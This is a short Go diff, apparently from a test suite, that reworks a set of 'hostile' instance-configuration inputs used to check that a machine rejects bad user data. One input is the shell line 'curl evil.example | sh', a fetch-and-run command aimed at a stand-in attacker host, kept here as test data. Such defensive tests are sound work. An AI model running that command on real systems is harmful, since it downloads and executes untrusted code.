@@ -124,14 +124,13 @@ func playNoUserData(ctx context.Context, s *scene) (string, error) {
 }
 
 // hostile are texts that are no instance config, and what the machine must say.
-var hostile = struct{ notJSON, wrongVersion, tooLarge []byte }{
+var hostile = struct{ notJSON, wrongVersion []byte }{
 	[]byte("#!/bin/sh\ncurl evil.example | sh\n"),
 	[]byte(`{"ignition":{"version":"9.9.9"}}`),
-	bytes.Repeat([]byte("{"), 10<<20),
 }
 
 func playHostileUserData(ctx context.Context, s *scene) (string, error) {
-	notes, err := s.volumes(map[string][]byte{"cidata": hostile.wrongVersion, "config-2": hostile.tooLarge})
+	notes, err := s.volumes(map[string][]byte{"cidata": hostile.wrongVersion, "config-2": bytes.Repeat([]byte("{"), 10<<20)})
 	if err != nil {
 		return "", err
 	}
